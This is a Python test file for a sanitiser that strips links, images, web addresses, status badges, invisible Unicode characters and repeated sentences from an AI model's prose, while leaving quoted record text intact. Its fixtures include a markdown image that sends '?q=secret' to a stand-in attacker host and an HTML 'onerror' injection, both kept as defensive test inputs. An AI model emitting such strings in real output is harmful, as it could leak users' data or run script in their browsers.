"""A model's prose loses what acts, shines or hides; the record's words that are put in keep all."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from protocol.ids import DocumentId
from worker.deliverables.prose import cleaned, without_repeats
from worker.deliverables.quotations import put_in_quotations
from worker.quoting import Sentence

HELD = (
    Sentence(document=DocumentId("D-1"), start=0, end=9, words="See http://a.example [ok] ✔ here."),
)


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("Look ![x](http://evil.example/?q=secret).", "Look x."),
        ("Look [here](https://evil.example).", "Look here."),
        ("Go to https://evil.example/a?b=c now.", "Go to [address left out] now."),
        ("<img src=x onerror=y>Fine.", "Fine."),
        ("✔ VERIFIED Complaint p. 2", " Complaint p. 2"),
        ("Paid. [ok] NOT FOUND", "Paid. "),
        ("a\u200bb\u202ec\U000e0041d", "abcd"),
        (
            "Mr. Osei [the director] (then absent) left.",
            "Mr. Osei [the director] (then absent) left.",
        ),
        ("It is so [[3]] (Lease p. 3).", "It is so [[3]] (Lease p. 3)."),
    ],
)
def test_what_acts_shines_or_hides_is_taken_out(written, left):
    assert cleaned(written)[0] == left


def test_links_nested_in_links_do_not_come_back():
    text, taken = cleaned("[a[b](http://x.example)](http://y.example) !![c](z)")
    assert "http" not in text
    assert taken


def test_the_records_words_are_put_in_untouched():
    text, unknown, taken = put_in_quotations("It says [[1]] ✔", HELD)
    assert text == "It says “See http://a.example [ok] ✔ here.” "
    assert (unknown, taken) == (0, 1)


@given(st.text(alphabet=st.sampled_from("[]()!<>/:ahtp.✔ \n\u200b"), max_size=80))
def test_cleaning_ends_and_leaves_no_address(text):
    once, _ = cleaned(text)
    assert "://a" not in once.replace("[address left out]", "") or "http" not in once
    assert "✔" not in once
    assert "\u200b" not in once


@pytest.mark.parametrize(
    ("written", "left", "left_out"),
    [
        ("The roof was dry. It rained.", "The roof was dry. It rained.", 0),
        ("The roof was dry on May 1. It rained. The roof was  dry on May 1.",
         "The roof was dry on May 1. It rained.", 1),
        ("The pump was mended in May.\n\nthe pump was mended in May.\n\nIt is new.",
         "The pump was mended in May.\n\nIt is new.", 1),
        ("It does not say. It does not say.", "It does not say. It does not say.", 0),
        ("The rent is $1 a month now. The rent is $2 a month now.",
         "The rent is $1 a month now. The rent is $2 a month now.", 0),
    ],
)  # fmt: skip
def test_a_sentence_that_comes_again_is_shown_once(written, left, left_out):
    assert without_repeats(written) == (left, left_out)


@given(st.text(alphabet=st.sampled_from("ab. \n!"), max_size=80))
def test_without_repeats_nothing_is_left_out_twice(text):
    once, _ = without_repeats(text)
    assert without_repeats(once) == (once, 0)
